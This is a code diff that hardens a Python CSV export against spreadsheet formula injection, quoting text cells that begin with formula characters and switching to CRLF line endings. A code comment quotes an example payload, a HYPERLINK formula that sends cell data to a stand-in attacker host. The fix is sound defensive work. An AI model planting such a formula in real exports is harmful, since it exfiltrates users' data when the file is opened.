@@ -29,14 +29,35 @@ def _attachment(body: bytes | str, media_type: str, filename: str) -> Response:
     )
 
 
+# A spreadsheet runs a cell that starts with one of these as a formula: a metric named
+# =HYPERLINK("https://evil.example/?"&A1, "open") would phone home when the export is opened.
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def text_cell(text: str) -> str:
+    """A text field (metric name, owner, metadata) as a CSV cell no spreadsheet evaluates: a
+    leading ``'`` where it would start a formula (OWASP's advice for CSV injection). Numbers
+    (the value column, e.g. -1.5) are left as they are."""
+    return "'" + text if text.startswith(_FORMULA_STARTS) else text
+
+
 def _csv(series: Series, *, owner_column: str, owner: str) -> str:
     buffer = io.StringIO()
-    writer = csv.writer(buffer, lineterminator="\n")
+    # RFC 4180's CRLF: with "\n" alone the writer left a "\r" inside a name unquoted, which
+    # split the row in two for every reader.
+    writer = csv.writer(buffer, lineterminator="\r\n")
     writer.writerow([owner_column, "metric", "date", "value", "cumulative", "metadata"])
     for name, points in series.items():
         for point in points_as_dicts(points, with_details=True):
             writer.writerow(
-                [owner, name, point["date"], point["value"], point["cumulative"], point["metadata"]]
+                [
+                    text_cell(owner),
+                    text_cell(name),
+                    point["date"],
+                    point["value"],
+                    point["cumulative"],
+                    text_cell(point["metadata"]),
+                ]
             )
     return buffer.getvalue()
 
